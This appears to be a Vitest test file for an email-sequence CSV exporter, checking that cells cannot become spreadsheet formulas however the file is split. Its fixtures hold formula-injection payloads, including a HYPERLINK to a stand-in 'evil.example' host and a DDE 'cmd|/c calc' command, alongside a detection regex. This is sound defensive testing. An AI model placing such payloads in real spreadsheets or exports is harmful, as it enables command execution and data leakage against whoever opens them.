import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { sheetCsv } from '#renderer/lib/export/email/sequence-sheet.ts';
import { csvText } from '#renderer/lib/export/files/csv-text.ts';
import { escapeCell } from '#shared/rules/emails/export/escape-copy.ts';
import { threadTimeOf } from '#tests/support/thread-time.ts';

/* In countries with a decimal comma, spreadsheets split CSV at semicolons. */

const FORMULA = /^"*[=+\-@＝＋－＠]/u;

test.each([
  ['a semicolon', 'Good news;=HYPERLINK("https://evil.example/?"&A2;"Open");more'],
  ['a semicolon and quotes', 'Good news;"=1+1";""=1+1"";more'],
  ['a semicolon, a plus', 'Good news;+1+cmd|"/c calc"!A0;more'],
  ['a line break', 'Good news\n=1+1\r@SUM(1)\r\n-2+3\nmore'],
  [
    'a line break, an item of a list that calls',
    'Good news\n- HYPERLINK("https://evil.example")\n- x!A1\n- SUM (1)\n- a|b\nmore',
  ],
  ['a tab', 'Good news\t=1+1\t＝1+1\tmore'],
  ['several of them', ';;\n\t;=1+1'],
])('no cell is a formula, however a spreadsheet parts the lines: %s', (_name, body) => {
  const csv = sheetCsv([{ position: '1', subject: 'Hello', body, notes: 'x' }]);
  for (const delimiter of [',', ';', '\t']) {
    const { data } = Papa.parse<string[]>(csv.slice(1), { delimiter });
    expect([delimiter, data.flat().filter((cell) => FORMULA.test(cell))]).toEqual([delimiter, []]);
  }
  const unquoted = csv.split(/[;\t\r\n]/u);
  expect(unquoted.filter((cell) => FORMULA.test(cell))).toEqual([]);
});

test.each(['Ada,=1+1,x', 'Ada,"=1+1",x', 'Ada,@SUM(1)', 'Ada,+1+1,', 'Ada,-1'])(
  'no name in a list with semicolons is a formula where lines are parted at commas: %j',
  (name) => {
    const format = { separator: ';', decimal: ',' } as const;
    const csv = csvText(['Id', name], [['a', name, 90]], format).slice(1);
    for (const delimiter of [',', ';', '\t']) {
      const { data } = Papa.parse<string[]>(csv, { delimiter });
      expect([delimiter, data.flat().filter((cell) => FORMULA.test(cell))]).toEqual([delimiter, []]);
    }
    expect(csv.split(/[,;\t\r\n]/u).filter((cell) => FORMULA.test(cell))).toEqual([]);
  },
);

test.each([
  'Tea; coffee; 1 + 1 = 2',
  'Ask at ada@example.com; or call.',
  'Your list:\n- first\n- second, with a dash - here!\n- [a link](https://example.com/a)\n+ third\n\n  - nested (in brackets)\n* fourth',
  'a\tb; "quoted" - yes',
])('ordinary text stays as it is: %j', (text) => {
  expect(escapeCell(text)).toBe(text);
});

test('a long text takes no long time', () => {
  for (const text of [
    ';"'.repeat(100_000),
    '"'.repeat(200_000),
    `;${'"'.repeat(200_000)}`,
    '\n- - '.repeat(50_000),
  ]) {
    expect(threadTimeOf(() => escapeCell(text))).toBeLessThan(5_000);
  }
});
